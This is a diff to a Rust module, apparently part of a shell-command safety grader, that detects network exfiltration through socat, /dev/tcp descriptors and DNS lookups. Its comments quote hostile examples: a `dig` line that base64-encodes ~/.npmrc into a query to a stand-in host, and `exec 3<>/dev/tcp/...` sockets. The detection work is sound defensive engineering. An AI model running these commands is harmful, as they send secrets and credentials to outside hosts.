@@ -1,13 +1,14 @@
 //! Network sinks that carry no program's "upload" verb (holdout9 analysis, "Graded one step
 //! low"): a raw socket written by any program (socat's address pairs, the shell's `/dev/tcp`
-//! and `/dev/udp` redirections), a DNS label built by a command substitution that reads a
+//! and `/dev/udp` redirections, also through a descriptor `exec 3<>/dev/tcp/...` opened), a
+//! DNS label built by a command substitution that reads a
 //! secret (the substitution's redirections read too: `dig $(base64 < ~/.npmrc).x.example`),
 //! and a directory of people's records named as an export (`customer-exports/`,
 //! `crm-export/`). Each is read into the one exfiltration grading of [`super::secrets`]: what is
 //! sent (a secret, a dump, people's records) to where (a bare address, another party).
 
 use super::Cmd;
-use crate::shell::RedirectKind;
+use crate::shell::{RedirectKind, Script};
 
 /// socat's address types that connect out to another host (socat(1), "ADDRESS TYPES").
 const CONNECTS: &[&str] = &[
@@ -123,6 +124,33 @@ pub fn socket_redirect<'c>(cmd: &Cmd<'c>) -> Option<&'c str> {
             .or_else(|| t.strip_prefix("/dev/udp/"))?;
         Some(rest.split('/').next().unwrap_or(rest))
     })
+}
+
+/// The host a descriptor this command writes to (`>&3`) reaches, when an earlier command of
+/// the same script opened a descriptor on a socket (`exec 3<>/dev/tcp/HOST/PORT`). The
+/// descriptor's number is not kept by the parser, so any duplicated descriptor above 2 after
+/// such an `exec` is read as the socket.
+pub fn socket_descriptor(cmd: &Cmd<'_>, s: &Script<'_>, index: usize) -> Option<String> {
+    let writes_descriptor = cmd
+        .redirects
+        .iter()
+        .any(|r| r.kind == RedirectKind::Duplicate && r.target.parse::<u32>().is_ok_and(|n| n > 2));
+    if !writes_descriptor {
+        return None;
+    }
+    s.commands[..index.min(s.commands.len())]
+        .iter()
+        .rev()
+        .filter(|c| c.words.first().is_some_and(|w| w == "exec") && c.words.len() == 1)
+        .find_map(|c| {
+            c.redirects.iter().find_map(|r| {
+                let rest = r
+                    .target
+                    .strip_prefix("/dev/tcp/")
+                    .or_else(|| r.target.strip_prefix("/dev/udp/"))?;
+                Some(rest.split('/').next().unwrap_or(rest).to_owned())
+            })
+        })
 }
 
 /// What a command whose output goes to a socket sends: its operands and the files its
